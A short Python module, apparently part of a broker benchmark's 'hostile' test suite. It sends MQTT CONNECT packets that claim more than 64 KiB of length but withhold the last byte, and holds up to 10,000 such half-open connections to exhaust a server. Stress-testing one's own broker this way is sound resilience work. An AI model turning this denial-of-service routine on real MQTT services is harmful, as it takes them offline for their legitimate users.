"""CONNECTs of 64 KiB and more of which the last byte never comes, as many as the system lets."""

from __future__ import annotations

from benchmarks.hostile.attack import Attack

__all__ = ["open_attack", "stop"]

_SIZE = 65_536


def open_attack(port: int, count: int = 10_000, rate: float = 0.0) -> Attack:
    """Begin; `count` connections are held."""
    length = _SIZE + 100
    begun = b"\x10" + bytes((length & 0x7F | 0x80, length >> 7 & 0x7F | 0x80, length >> 14))
    said = begun + b"\0\x04MQTT\x04\xc2\0\x3c" + bytes(_SIZE)

    def connect(attack: Attack) -> None:
        attack.dial(said)

    return Attack(port, rate, connect, keep=count).open()


def stop(attack: Attack) -> Attack:
    """End it."""
    return attack.stop()
